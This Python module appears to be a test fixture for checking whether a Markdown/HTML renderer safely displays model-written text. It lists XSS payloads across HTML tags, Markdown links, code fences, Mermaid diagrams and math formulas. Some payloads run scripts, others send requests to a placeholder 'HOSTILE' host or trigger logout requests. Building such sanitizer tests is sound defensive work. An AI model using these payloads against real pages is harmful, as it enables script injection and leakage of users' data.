"""What a model may write to get a script, a request or a navigation out of a page: one payload each.

HOSTILE stands for the address of another site, to which nothing may be sent. RAN in the title of a page, or a dialog,
says that a script ran.
"""

from __future__ import annotations

RUN = "top.document.title='RAN'"

_TAGS = (
    f"<script>{RUN}</script>",
    "<script src=HOSTILE/s.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=HOSTILE/u.svg#a></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<video poster=HOSTILE/p.png src=HOSTILE/v.mp4></video>",
    "<audio src=HOSTILE/a.mp3 autoplay></audio>",
    "<iframe src=HOSTILE/frame></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    "<object data=HOSTILE/o></object>",
    "<embed src=HOSTILE/e>",
    "<base href=HOSTILE/>",
    "<meta http-equiv=refresh content='0; url=HOSTILE/refresh'>",
    "<link rel=stylesheet href=HOSTILE/x.css>",
    "<link rel=preconnect href=HOSTILE>",
    "<link rel=dns-prefetch href=HOSTILE>",
    "<style>@import url(HOSTILE/y.css); body { background: url(HOSTILE/z.png) }</style>",
    "<div style='background: url(HOSTILE/b.png); position: fixed; inset: 0'>x</div>",
    f"<form action=HOSTILE/form><button autofocus formaction=javascript:{RUN}>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<a href='javascript:{RUN}' id=main>x</a>",
    "<a href=HOSTILE/link ping=HOSTILE/ping>x</a>",
    f"<div hx-get=HOSTILE/hx hx-trigger=load hx-on::load={RUN}>x</div>",
    "<div data-hx-get=/logout/ data-hx-trigger=load>x</div>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href=HOSTILE/x.xsl?><img src=x onerror={RUN}>",
    f"</div></article></main><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img/src=x\tonerror\n=\n{RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"\x00<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    "<form id=now><input name=attributes></form><a id=now name=body>x</a>",
)
"""HTML, which is text in Markdown."""

_LINKS = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](java&#10;script:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](\x01javascript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](view-source:javascript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AuZG9jdW1lbnQudGl0bGU9J1JBTic8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](blob:HOSTILE/1)",
    f"<javascript:{RUN}>",
    f"[x][y]\n\n[y]: javascript:{RUN}",
    f'[x](https://a.example "onmouseover={RUN}")',
    f'[x](https://a.example/"onmouseover={RUN}//)',
    f'[x" onmouseover="{RUN}](/new/)',
    f'https://a.example/"onmouseover={RUN}',
    '[x](/logout/ \'" hx-post="/logout/" hx-trigger="load\')',
)

_IMAGES = (
    "![x](HOSTILE/i.png)",
    "![x](//127.0.0.2/i.png)",
    "![x](\\\\\\\\127.0.0.2/i.png)",
    "![x](/\\127.0.0.2/i.png)",
    "![x][y]\n\n[y]: HOSTILE/i.png",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](../../logout/)",
    "![x](%2e%2e/%2e%2e/logout/)",
    f'![x" onerror="{RUN}](lost.png)',
    f'![x](lost.png"onerror={RUN})',
    "![x](a.png?u=HOSTILE#HOSTILE)",
    "[![x](HOSTILE/i.png)](HOSTILE/link)",
)

_FENCES = (
    f"```<script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"```html\n<script>{RUN}</script></code></pre></div>\n```",
    f'```python:"><img src=x onerror={RUN}>\nx\n```',
    f"    </code></pre><script>{RUN}</script>",
    f"`</code><script>{RUN}</script>`",
)

_DIAGRAMS = (
    f'graph TD\n  A["<img src=x onerror={RUN}>"] --> B',
    f'graph TD\n  A["<script>{RUN}</script>"]',
    f'graph TD\n  A --> B\n  click A "javascript:{RUN}"',
    'graph TD\n  A --> B\n  click A href "HOSTILE/click" _top',
    f"graph TD\n  A --> B\n  click A call {RUN}",
    "graph TD\n  A[\"<img src='HOSTILE/i.png'>\"]",
    'graph TD\n  A@{ img: "HOSTILE/i.png", label: "x", w: 60, h: 60 }',
    "graph TD\n  A\n  style A fill:url(HOSTILE/f.svg#a)",
    "graph TD\n  A\n  classDef x fill:#fff,background:url(HOSTILE/b.png)\n  class A x",
    '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(HOSTILE/y.css)"}}%%\ngraph TD\n  A',
    '%%{init: {"fontFamily": "x; } * { background: url(HOSTILE/b.png)"}}%%\ngraph TD\n  A',
    f'---\nconfig:\n  htmlLabels: true\n  securityLevel: loose\n---\ngraph TD\n  A["<svg onload={RUN}>"]',
    f"sequenceDiagram\n  A->>B: <img src=x onerror={RUN}>\n  link A: x @ javascript:{RUN}",
    f'classDiagram\n  class A\n  link A "javascript:{RUN}" "x"',
    f'gantt\n  section x\n  y :a, 2024-01-01, 1d\n  click a href "javascript:{RUN}"',
    f'pie title </text></svg><script>{RUN}</script>\n  "a" : 1',
    f"</code></pre></details><script>{RUN}</script>",
)

_FORMULAS = (
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    "$\\href{HOSTILE/link}{x}$",
    "$\\url{HOSTILE/link}$",
    "$\\includegraphics{HOSTILE/i.png}$",
    f"$\\htmlData{{x=1}}{{\\text{{<img src=x onerror={RUN}>}}}}$",
    f"$\\text{{</mtext></math><script>{RUN}</script>}}$",
    f"$$\\text{{<img src=x onerror={RUN}>}}$$",
    f'\\(\\text{{" onload="{RUN}}}\\)',
    "$\\style{background:url(HOSTILE/b.png)}{x}$",
    f'$\\class{{x" onclick="{RUN}}}{{x}}$',
    f"$\\unicode{{x3c}}script\\unicode{{x3e}}{RUN}$",
    "\\[\n\\color{red;background:url(HOSTILE/b.png)} x\n\\]",
)

_OTHERS = (
    f'x[^"onload={RUN}]\n\n[^"onload={RUN}]: y',
    f"x[^<script>]\n\n[^<script>]: <script>{RUN}</script>",
    "x[^now] x[^main]\n\n[^now]: clobbers\n[^main]: clobbers",
    f'| <svg onload={RUN}> | " onfocus="{RUN} |\n|-|-|\n| <script>{RUN}</script> | x |',
    f"- [ ] <img src=x onerror={RUN}>",
    f"- [x](javascript:{RUN})",
    f"<b>\n: <script>{RUN}</script>",
    f"# <script>{RUN}</script>",
)

PAYLOADS = (
    *_TAGS, *_LINKS, *_IMAGES, *_FENCES, *(f"```mermaid\n{each}\n```" for each in _DIAGRAMS), *_FORMULAS, *_OTHERS,
)  # fmt: skip
